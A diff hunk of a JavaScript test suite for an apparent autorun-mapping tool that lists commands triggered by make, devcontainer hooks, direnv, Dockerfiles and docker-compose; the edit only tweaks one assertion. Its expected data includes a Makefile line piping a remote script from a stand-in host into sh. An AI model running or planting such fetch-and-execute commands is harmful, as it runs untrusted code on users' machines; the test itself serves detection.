@@ -236,7 +236,7 @@ describe('autorun map: git, python and the rest', () => {
     const make = map.filter((e) => e.trigger === 'make').map((e) => [e.line, e.command]);
     assert.deepEqual(make, [[6, 'curl -s http://x/i.sh | sh'], [3, 'echo done']]);
     assert.deepEqual(find(map, (e) => e.label === 'postCreateCommand').leadsTo, ['.devcontainer/setup.sh']);
-    assert.equal(find(map, (e) => e.label?.startsWith('initializeCommand')).command, 'echo hi');
+    assert.equal(find(map, (e) => e.label?.startsWith('initializeCommand') === true).command, 'echo hi');
     assert.equal(find(map, (e) => e.trigger === 'direnv').line, 2);
     assert.deepEqual(map.filter((e) => e.file === 'Dockerfile').map((e) => [e.line, e.command]), [[2, 'apt-get update && apt-get install -y curl'], [4, 'node server.js']]);
     assert.equal(find(map, (e) => e.file === 'docker-compose.yml').line, 4);
